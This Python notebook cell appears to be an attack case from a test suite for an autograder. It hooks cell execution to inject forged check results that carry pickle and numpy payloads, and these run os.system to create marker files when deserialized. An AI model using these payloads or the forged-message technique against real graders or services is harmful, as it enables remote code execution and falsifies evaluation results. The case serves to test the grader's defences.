# attack: sends pickles and arrays of objects as values, which run code when they are read
# verdict: graded
# marks: double_two=0 double_negative=2 noise_bounds=2
# %% after="double"
from IPython import get_ipython

kernel = get_ipython().kernel
session = kernel.session


def send(kind, content, parent=None, header=None):
    """Frames as the kernel sends them, with the content as it stands."""
    header = session.msg_header(kind) if header is None else header
    parts = [session.pack(header), session.pack(parent or kernel.get_parent()["header"]), b"{}", content]
    frames = [b"stream", b"<IDS|MSG>", session.sign(parts), *parts]
    kernel.iopub_socket.send_multipart(frames)


import base64
import io
import json
import pickle


class Touch:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/attack-was-here /var/tmp/attack-was-here",)


buffer = io.BytesIO()
np.save(buffer, np.array([Touch()], dtype=object), allow_pickle=True)
objects = buffer.getvalue()
evil = [objects, pickle.dumps(Touch()), objects.replace(b"'|O'", b"'<f8'")]
evil += [b"\x93NUMPY\x01\x00v\x00{'descr': __import__('os').system('touch /tmp/attack-was-here'), 'fortran_order': False, 'shape': (1,), }\n"]


def forge(info):
    if "check(" in (info.raw_cell or ""):
        for content in evil:
            record = {"name": "twice any", "value": {"npy": base64.b64encode(content).decode()}}
            shown = {"data": {"application/vnd.dlcourse.check+json": record}, "metadata": {}}
            send("display_data", json.dumps(shown).encode())


get_ipython().events.register("pre_run_cell", forge)
